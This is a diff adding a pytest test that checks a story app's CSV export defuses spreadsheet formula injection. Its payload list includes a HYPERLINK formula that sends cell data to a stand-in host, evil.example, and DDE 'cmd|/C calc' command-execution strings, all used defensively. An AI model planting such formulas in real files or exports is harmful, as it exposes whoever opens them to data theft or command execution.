@@ -125,3 +125,29 @@ def test_export_story_command_writes_each_format(story, tmp_path):
             "export_story", str(story.pk), "--format", fmt, "--output", str(path), stderr=io.StringIO()
         )
         assert path.stat().st_size > 100
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1 more ship sank off Gozo+cmd|' /C calc'!A0, the coastguard said.",
+    "-2+3 people were hurt, officials said.",
+    "@SUM(1+1)*cmd|' /C calc'!A0 was posted by the port authority on Tuesday.",
+    "\t=1+1 was written on the placard.",
+    "\r=1+1 was written on the placard.",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_csv_export_defuses_spreadsheet_formulas(client, formula):
+    story = Story.objects.create(title="Formulas")
+    for outlet, text in [("=cmd|'/C calc'!A0", formula), ("Plain outlet", "Officials met on Monday.")]:
+        ingest(ArticleInput(text=text, outlet=outlet), story=story)
+    response = get(client, story, "csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert "'=cmd|'/C calc'!A0" in rows[0]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    stored = Article.objects.get(outlet__name__startswith="=").sentences.values_list("text", flat=True)
+    risky = [text for text in stored if text.startswith(("=", "+", "-", "@"))]
+    assert risky and all("'" + text in cells for text in risky)
